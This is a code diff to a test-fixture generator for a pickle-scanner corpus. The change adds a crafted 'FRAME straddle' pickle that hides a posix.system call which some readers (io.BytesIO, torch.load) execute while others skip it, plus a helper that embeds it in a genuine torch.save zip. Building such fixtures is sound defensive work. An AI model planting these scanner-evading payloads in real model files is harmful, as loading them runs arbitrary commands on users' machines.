@@ -21,13 +21,16 @@ and saw a marker appear; otherwise generation fails.
 The pickle assembler (G, Call, asm, ...) comes from test/gen_fixtures.py.
 """
 import glob
+import io
 import json
 import os
 import pickle
+import struct
 import subprocess
 import sys
 import tempfile
 import time
+import zipfile
 
 HERE = os.path.dirname(os.path.abspath(__file__))
 sys.path.insert(0, HERE)
@@ -40,6 +43,7 @@ MANIFEST = []
 LOADERS = {
     'pickle.load': "import pickle\nwith open(FILE,'rb') as f: pickle.load(f)",
     'torch.load': "import torch\ntorch.load(FILE, weights_only=False)",
+    'pickle.load(io.BytesIO(data))': "import pickle, io\npickle.load(io.BytesIO(open(FILE,'rb').read()))",
     'pickle.Unpickler (one instance, load() until EOF)':
         "import pickle\nwith open(FILE,'rb') as f:\n u = pickle.Unpickler(f)\n"
         " while True:\n  try: u.load()\n  except EOFError: break",
@@ -79,6 +83,23 @@ def W(name, data, technique, catalogue, loader='pickle.load', fmt='pickle'):
     MANIFEST.append({"file": 'malicious/bypass/' + name, "label": "malicious", "format": fmt,
                      "technique": technique, "catalogue": catalogue, "loader": loader, "proven": True})
     print('  proven  %-45s (loader rc=%s)' % (name, rc))
+
+
+def torch_zip_with(data_pkl):
+    """A real torch.save zip of a small dict with archive/data.pkl replaced."""
+    import torch
+    buf = io.BytesIO()
+    torch.save({'a': 1}, buf)
+    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, 'w', zipfile.ZIP_STORED) as z:
+        for info in src.infolist():
+            data = src.read(info.filename)
+            if info.filename.endswith('/data.pkl'):
+                data = data_pkl
+            zi = zipfile.ZipInfo(info.filename, (1980, 1, 1, 0, 0, 0))
+            z.writestr(zi, data)
+    return out.getvalue()
 
 
 def getattr_(obj, name):
@@ -159,6 +180,20 @@ def main():
       'legacy torch file whose main pickle calls BINPERSID(("module", posix.system, None, None)): '
       'torch\'s legacy persistent_load hands back the global, REDUCE calls it', '3.2.21,3.3.34',
       loader='torch.load', fmt='pytorch-legacy')
+    # FRAME straddle, reversed: contiguous readers (pickle.loads, real files) see two byte strings;
+    # readers without peek (io.BytesIO, torch.load's data.pkl) drop the rest of the frame when a
+    # SHORT_BINUNICODE crosses its end and run the GLOBAL/REDUCE hidden in the second string.
+    hidden = b'cposix\nsystem\n' + emit((SHELL_CMD,), 2) + b'R0'
+    framed = b'(' + b'\x8c\x0a' + b'A' * 9
+    straddle = (b'\x80\x04\x95' + struct.pack('<Q', len(framed)) + framed + b'Z'
+                + b'B' + struct.pack('<I', 4 + len(hidden)) + b'WXYZ' + hidden + b't.')
+    W('frame_straddle_bytesio.pkl', straddle,
+      'FRAME ends inside a SHORT_BINUNICODE: pickle.loads reads through and sees only byte strings; '
+      'pickle.load(io.BytesIO) drops the frame rest and runs a GLOBAL/REDUCE hidden in a BINBYTES',
+      '3.2.18', loader='pickle.load(io.BytesIO(data))')
+    W('frame_straddle_torch_zip.pt', torch_zip_with(straddle),
+      'torch zip whose data.pkl has the reversed FRAME straddle: torch.load reads data.pkl through '
+      'io.BytesIO and runs the hidden call', '3.2.18,3.2.13', loader='torch.load', fmt='pytorch-zip')
     # Allowlisted globals that call one of their arguments.
     W('numpy_randomstate_ctor_callthrough.pkl',
       asm(Call(G('numpy.random._pickle', '__randomstate_ctor'), SHELL_CMD, G('posix', 'system'))),
